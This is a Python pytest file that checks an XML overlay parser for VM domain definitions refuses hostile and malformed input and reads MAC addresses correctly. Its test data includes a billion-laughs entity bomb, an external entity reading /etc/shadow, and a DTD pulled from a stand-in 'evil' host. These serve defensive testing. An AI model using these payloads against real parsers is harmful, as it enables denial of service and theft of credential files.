"""Texts of overlays: one meaning each, or refused."""

import pytest

from mcv.document import overlays
from mcv.errors import Refused

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))

HOSTILE = [
    ("billion laughs", f"<!DOCTYPE domain [{LAUGHS}]><domain>&l9;</domain>", "DOCTYPE"),
    (
        "an entity of a file",
        '<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/shadow">]><domain>&x;</domain>',
        "DOCTYPE",
    ),
    ("a DTD elsewhere", '<!DOCTYPE domain SYSTEM "http://evil/d.dtd"><domain/>', "DOCTYPE"),
    ("an unknown entity", "<domain>&x;</domain>", "no XML"),
    ("1 MiB", f"<domain>{' ' * 1024**2}</domain>", "64 KiB"),
    ("too deep", f"<domain>{'<a>' * 20}{'</a>' * 20}</domain>", "deep"),
    ("too many", f"<domain>{'<a/>' * 1001}</domain>", "1000 elements"),
    ("no domain", "<network/>", "<domain>"),
    ("a domain of another namespace", '<domain xmlns="urn:x"/>', "<domain>"),
    ("nothing", "", "no XML"),
    ("words", "watchdog", "no XML"),
    ("half", "<domain><devices>", "no XML"),
    ("a zero", "<domain>\0</domain>", "no XML"),
    ("half a pair", "<domain>\ud800</domain>", "no XML"),
    ("two", "<domain/><domain/>", "no XML"),
]


@pytest.mark.parametrize(("story", "text", "why"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_a_text_that_is_no_overlay_is_refused(story: str, text: str, why: str) -> None:
    with pytest.raises(Refused, match=why):
        overlays.parse(text)


def test_a_text_is_read_whatever_it_says_of_its_encoding() -> None:
    text = "<?xml version='1.0' encoding='utf-16'?><!-- ä --><domain><title>ä</title></domain>"

    assert overlays.parse(text).findtext("title") == "ä"


def test_a_domain_with_nothing_in_it_is_no_overlay() -> None:
    assert overlays.effective("<domain>\n  <!-- nothing -->\n</domain>") == ""
    assert overlays.effective("<domain><devices/></domain>") == "<domain><devices/></domain>"
    assert overlays.effective("<domain") == "<domain"


def test_addresses_are_read_as_the_parser_reads_them() -> None:
    text = (
        "<domain><devices><interface type='user'><mac address='52&#58;54:00:AA:bb:01 '/>"
        "</interface></devices><devices><interface><mac address='52:54:00:00:00:02'/></interface>"
        "</devices></domain>"
    )

    assert overlays.macs(text) == ("52:54:00:aa:bb:01", "52:54:00:00:00:02")
    assert overlays.macs("") == ()
